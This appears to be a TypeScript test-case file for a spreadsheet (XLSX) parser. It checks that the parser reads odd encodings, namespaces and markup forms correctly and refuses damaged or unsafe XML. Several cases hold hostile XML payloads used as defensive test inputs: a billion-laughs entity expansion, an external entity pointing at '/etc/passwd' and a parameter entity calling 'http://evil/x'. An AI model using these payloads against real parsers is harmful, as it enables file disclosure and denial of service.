import { bookParts, bookWith, entriesOf, HEAD, MAIN, makeBook, ONE_CELL, REL, sheetXml, utf16 } from "./book";
import type { FileCase } from "./types";
import { makeZip } from "./zip";

const sheet = "xl/worksheets/sheet1.xml";
const withSheet = (xml: string | Uint8Array) => () => makeBook({ parts: { [sheet]: xml } });
const dtd = (declaration: string, use = "") =>
  withSheet(
    `${HEAD}<!DOCTYPE worksheet ${declaration}><worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1" t="str"><v>${use || "42"}</v></c></row></sheetData></worksheet>`,
  );
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("");
const inline = (text: string) => `<row r="1"><c r="A1" t="inlineStr"><is>${text}</is></c></row>`;
const read42 = { cells: { A1: 42 }, remarks: [] };
const everyPart = (change: (xml: string) => string | Uint8Array) =>
  makeZip(
    entriesOf(
      Object.fromEntries(
        Object.entries(bookParts({ shared: "<si><t>été</t></si>", rows: SHARED })).map(([k, v]) => [
          k,
          change(v as string),
        ]),
      ),
    ),
  );
const SHARED = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>';

/** XML that is hostile, broken, or written in one of the many ways it may be. */
export const markup: readonly FileCase[] = [
  { name: "a DTD is refused", bytes: dtd('SYSTEM "x.dtd"'), refused: "unsafeXml" },
  { name: "an entity is refused", bytes: dtd('[<!ENTITY a "b">]', "&a;"), refused: "unsafeXml" },
  {
    name: "entities of entities are refused",
    bytes: dtd(`[<!ENTITY l0 "lol">${laughs}]`, "&l9;"),
    refused: "unsafeXml",
  },
  {
    name: "an external entity is refused",
    bytes: dtd('[<!ENTITY a SYSTEM "file:///etc/passwd">]', "&a;"),
    refused: "unsafeXml",
  },
  {
    name: "a parameter entity is refused",
    bytes: dtd('[<!ENTITY % a SYSTEM "http://evil/x">%a;]'),
    refused: "unsafeXml",
  },
  {
    name: "an entity nobody declared is refused",
    bytes: () => makeBook({ rows: inline("<t>&eacute;</t>") }),
    refused: "unsafeXml",
  },
  {
    name: "a DTD in UTF-16 is refused",
    bytes: withSheet(
      utf16(`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE a [<!ENTITY a "b">]><worksheet/>`),
    ),
    refused: "unsafeXml",
  },
  {
    name: "a DTD in the relationships is refused",
    bytes: () => makeBook({ parts: { "_rels/.rels": `${HEAD}<!DOCTYPE a><Relationships/>` } }),
    refused: "unsafeXml",
  },
  {
    name: "UTF-8 with a byte-order mark is read",
    bytes: () => everyPart((xml) => `\ufeff${xml}`),
    cells: { A1: "été" },
  },
  { name: "UTF-16 little-endian is read", bytes: () => everyPart((xml) => utf16(xml)), cells: { A1: "été" } },
  {
    name: "UTF-16 big-endian is read",
    bytes: () => everyPart((xml) => utf16(xml, true)),
    cells: { A1: "été" },
  },
  {
    name: "UTF-16 without a byte-order mark is read",
    bytes: () => everyPart((xml) => utf16(xml, false, false)),
    cells: { A1: "été" },
  },
  {
    name: "ISO-8859-1 is refused by name",
    bytes: () => everyPart((xml) => xml.replace("UTF-8", "ISO-8859-1")),
    refused: "unsupportedEncoding",
  },
  {
    name: "UTF-7 is refused by name",
    bytes: () => everyPart((xml) => xml.replace("UTF-8", "UTF-7")),
    refused: "unsupportedEncoding",
  },
  {
    name: "UTF-32 is refused",
    bytes: withSheet(Uint8Array.of(0xff, 0xfe, 0, 0, 60, 0, 0, 0)),
    refused: "unsupportedEncoding",
  },
  {
    name: "bytes that are no UTF-8 are refused, never replaced",
    bytes: withSheet(
      Uint8Array.from(sheetXml(inline("<t>un \u00e9t\u00e9 bien long</t>")), (l) => l.charCodeAt(0)),
    ),
    refused: "unsupportedEncoding",
  },
  {
    name: "strict OOXML namespaces are read",
    bytes: () =>
      everyPart((xml) =>
        xml
          .replaceAll(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main")
          .replaceAll(REL, "http://purl.oclc.org/ooxml/officeDocument/relationships"),
      ),
    cells: { A1: "été" },
  },
  {
    name: "x: prefixes are read",
    bytes: () =>
      bookWith((entry) =>
        /workbook\.xml$|sheet1\.xml$|sharedStrings\.xml$/.test(entry.name)
          ? {
              ...entry,
              data: (entry.data as string)
                .replace(/<(\/?)(?=[a-zA-Z])/g, "<$1x:")
                .replace("xmlns=", "xmlns:x="),
            }
          : entry,
      ),
    ...read42,
  },
  {
    name: "inline strings are read",
    bytes: () => makeBook({ rows: inline("<t>été</t>") }),
    cells: { A1: "été" },
  },
  {
    name: "formatted runs are joined",
    bytes: () =>
      makeBook({ rows: inline('<r><rPr><b/></rPr><t>a</t></r><r><t xml:space="preserve"> b</t></r>') }),
    cells: { A1: "a b" },
  },
  {
    name: "phonetic runs are left out",
    bytes: () =>
      makeBook({ rows: inline('<t>東京</t><rPh sb="0" eb="2"><t>トウキョウ</t></rPh><phoneticPr/>') }),
    cells: { A1: "東京" },
  },
  {
    name: "formatted and phonetic runs of shared texts are told apart",
    bytes: () =>
      makeBook({ rows: SHARED, shared: "<si><r><t>a</t></r><rPh><t>x</t></rPh><r><t>b</t></r></si>" }),
    cells: { A1: "ab" },
  },
  {
    name: "spaces around a text are kept",
    bytes: () => makeBook({ rows: inline('<t xml:space="preserve"> a  </t>') }),
    cells: { A1: " a  " },
  },
  {
    name: "_x000D_ is a character, _x005F_x000D_ is the words",
    bytes: () => makeBook({ rows: inline("<t>a_x000D_\r\nb_x005F_x000D_</t>") }),
    cells: { A1: "a\r\nb_x000D_" },
  },
  {
    name: "the five entities and character numbers are read",
    bytes: () => makeBook({ rows: inline("<t>&lt;&amp;amp;&gt;&quot;&apos;&#233;&#x1F600;</t>") }),
    cells: { A1: "<&amp;>\"'é😀" },
  },
  {
    name: "character number 0 is refused",
    bytes: () => makeBook({ rows: inline("<t>&#0;</t>") }),
    refused: "unsafeXml",
  },
  {
    name: "CDATA and comments are read",
    bytes: () =>
      makeBook({
        rows: '<!-- <c r="B9"><v>1</v></c> -->' + inline("<t>a<![CDATA[<b> & ]]>c<!-- d -->e</t>"),
      }),
    cells: { A1: "a<b> & ce" },
  },
  {
    name: "a number cut by a comment is read whole",
    bytes: () => makeBook({ rows: '<row r="1"><c r="A1"><v>4<!-- -->2</v></c></row>' }),
    ...read42,
  },
  {
    name: "single quotes, spaces and line breaks in tags are read",
    bytes: () => makeBook({ rows: "<row\n r = '1' ><c\tr='A1' ><v >42</v ></c ></row >\n" }),
    ...read42,
  },
  {
    name: "> in an attribute is read",
    bytes: () => makeBook({ rows: '<row r="1" note="a>b/>"><c r="A1"><v>42</v></c></row>' }),
    ...read42,
  },
  {
    name: "instructions are passed over",
    bytes: withSheet(
      sheetXml(ONE_CELL).replace("<worksheet", '<?mso-application progid="Excel.Sheet"?><worksheet'),
    ),
    ...read42,
  },
  {
    name: "extensions are passed over",
    bytes: () =>
      makeBook({
        rows: '<row r="1"><c r="A1"><v>42</v><extLst><ext><x:v xmlns:x="u">9</x:v></ext></extLst></c></row>',
        after: '<extLst><ext><x14:f xmlns:x14="u">A1</x14:f></ext></extLst>',
      }),
    ...read42,
  },
  {
    name: "tags that do not nest are refused",
    bytes: withSheet(sheetXml('<row r="1"><c r="A1"><v>42</c></v></row>')),
    refused: "damaged",
  },
  {
    name: "a part that ends too soon is refused",
    bytes: withSheet(sheetXml(ONE_CELL).slice(0, -15)),
    refused: "damaged",
  },
  {
    name: "a part that ends within a tag is refused",
    bytes: withSheet(sheetXml(ONE_CELL).slice(0, -3)),
    refused: "damaged",
  },
  {
    name: "a second root is refused",
    bytes: withSheet(`${sheetXml(ONE_CELL)}<worksheet/>`),
    refused: "damaged",
  },
  { name: "text behind the root is refused", bytes: withSheet(`${sheetXml(ONE_CELL)}x`), refused: "damaged" },
  {
    name: "text between cells is refused",
    bytes: () => makeBook({ rows: `<row r="1">42<c r="A1"><v>42</v></c></row>` }),
    refused: "damaged",
  },
  {
    name: "a cell outside any row is refused",
    bytes: () => makeBook({ rows: `<c r="A1"><v>42</v></c>` }),
    refused: "damaged",
  },
  {
    name: "an attribute twice is refused",
    bytes: () => makeBook({ rows: '<row r="1"><c r="A1" r="B1"><v>42</v></c></row>' }),
    refused: "damaged",
  },
  { name: "an empty part is refused", bytes: withSheet(""), refused: "damaged" },
  {
    name: "zeros instead of XML are refused",
    bytes: withSheet(new Uint8Array(500)),
    refused: "unsupportedEncoding",
  },
];
